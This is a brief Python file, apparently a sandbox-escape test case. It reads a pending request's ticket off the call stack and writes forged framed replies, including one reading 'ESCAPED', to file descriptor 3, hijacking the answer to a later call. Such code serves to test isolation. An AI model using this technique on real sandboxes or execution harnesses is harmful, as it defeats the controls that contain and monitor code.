"""Answers the next call with the ticket of this one."""

import os
import struct
import sys


def attack(t):
    frame = sys._getframe()
    while "ticket" not in frame.f_locals.get("request", ()):
        frame = frame.f_back
    ticket = frame.f_locals["request"]["ticket"]
    for body in (ticket + b"v\0\0\0\0n", ticket + b"v\0\0\0\0s" + struct.pack("<I", 7) + b"ESCAPED"):
        os.write(3, struct.pack(">I", len(body)) + body)
    return 1


def later(x):
    return x
